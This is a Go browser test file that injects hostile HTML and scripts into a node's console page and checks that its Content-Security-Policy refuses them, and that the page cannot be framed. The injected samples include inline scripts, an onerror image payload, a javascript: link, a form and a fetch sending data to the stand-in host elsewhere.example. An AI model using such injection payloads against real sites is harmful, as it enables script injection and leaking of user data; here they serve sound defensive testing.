package console_test

import (
	"bytes"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"testing"

	"fullsync/internal/browsertest"
	"fullsync/internal/nodetest"
)

// evil is what an attacker would put into the page if they could.
const evil = `<script>window.ran = "inline script"</script>
<script src="http://elsewhere.example/script.js"></script>
<img alt="" src="http://elsewhere.example/picture.png">
<p id="styled" style="position: fixed">Styled</p>
<form id="leak" action="http://elsewhere.example/"><button>Leak</button></form>
<base href="http://elsewhere.example/">
<iframe title="Frame" src="/console/icon.svg"></iframe>`

// TestThePolicyBites puts evil things into the page, both in what the node sends and with scripts.
func TestThePolicyBites(t *testing.T) {
	t.Parallel()
	browsertest.Require(t)
	node := nodetest.Start(t, nodetest.Config{ID: nodetest.MainNode})
	way := nodetest.NewWire(t, node.URL())
	way.Reach(func(w http.ResponseWriter, r *http.Request, next http.Handler) {
		if r.URL.Path != "/console/" {
			next.ServeHTTP(w, r)
			return
		}
		r.Header.Del("Accept-Encoding")
		whole := nodetest.Answered(r, next)
		body := bytes.Replace(whole.Body, []byte("<body>"), []byte("<body>"+evil), 1)
		for name, values := range whole.Header {
			w.Header()[name] = values
		}
		w.Header().Set("Content-Length", strconv.Itoa(len(body)))
		w.WriteHeader(whole.Status)
		_, _ = w.Write(body)
	})
	page := browsertest.Open(t, way.URL+"/console/", browsertest.Options{})
	page.Button("Sign in").Wait() // the page's own script runs
	browsertest.Eval[bool](page, `(() => {
		const attempt = (f) => { try { f() } catch (refused) { (window.refused ??= []).push(refused.name) } };
		attempt(() => document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.ran = 1'>"));
		attempt(() => document.body.append(Object.assign(document.createElement("script"), {textContent: "window.ran = 'added script'"})));
		setTimeout(() => attempt(() => { window.ran = window.eval("1 + 1") })); // code that the test itself evaluates may do this
		attempt(() => document.getElementById("leak").submit());
		const link = Object.assign(document.createElement("a"), {href: "javascript:window.ran='link'", textContent: "Link"});
		document.body.append(link);
		link.click();
		return fetch("http://elsewhere.example/leak").then(() => false, () => true);
	})()`)
	page.WaitFor("the refusals", `window.refused?.length === 3`)
	if ran := browsertest.Eval[string](page, `String(window.ran)`); ran != "undefined" {
		t.Errorf("it ran: %s", ran)
	}
	if position := browsertest.Eval[string](page, `getComputedStyle(document.getElementById("styled")).position`); position != "static" {
		t.Errorf("an inline style was taken: %s", position)
	}
	if base := browsertest.Eval[string](page, "document.baseURI"); !strings.HasPrefix(base, way.URL) {
		t.Errorf("the base is %s", base)
	}
	refused := page.TakeProblems()
	for _, want := range []string{
		"script-src-elem  (kInlineViolation)", "script-src-elem http://elsewhere.example/script.js", "img-src http://elsewhere.example/picture.png",
		"style-src-attr", "form-action", "base-uri", "frame-src",
		"connect-src http://elsewhere.example/leak", "require-trusted-types-for",
	} {
		if !slices.ContainsFunc(refused, func(line string) bool {
			return strings.Contains(line, "violation of the Content-Security-Policy: ") && strings.Contains(line, want)
		}) {
			t.Errorf("%s was not refused; refused was:\n%s", want, strings.Join(refused, "\n"))
		}
	}
}

// TestThePageCannotBeFramed: not even by a page of the same origin, which could cover it with its own buttons.
func TestThePageCannotBeFramed(t *testing.T) {
	t.Parallel()
	browsertest.Require(t)
	node := nodetest.Start(t, nodetest.Config{ID: nodetest.MainNode})
	way := nodetest.NewWire(t, node.URL())
	way.Reach(func(w http.ResponseWriter, r *http.Request, next http.Handler) {
		pages := map[string]string{
			"/frame": `<link rel="icon" href="data:,"><title>Frame</title><iframe src="/console/"></iframe><iframe src="/other"></iframe>`,
			"/other": `<title>Other</title>`,
		}
		if body := pages[r.URL.Path]; body != "" {
			w.Header().Set("Content-Type", "text/html")
			_, _ = w.Write([]byte("<!doctype html>" + body))
			return
		}
		next.ServeHTTP(w, r)
	})
	page := browsertest.Open(t, way.URL+"/frame", browsertest.Options{})
	if framed := browsertest.Eval[string](page, `Array.from({length: frames.length}, (_, i) => frames[i]).map((f) => { try { return f.location.pathname } catch { return "refused" } }).join()`); framed != "refused,/other" {
		t.Errorf("in the frames: %s", framed)
	}
	if refused := page.TakeProblems(); !strings.Contains(strings.Join(refused, "\n"), "frame-ancestors") {
		t.Errorf("refused was:\n%s", strings.Join(refused, "\n"))
	}
}
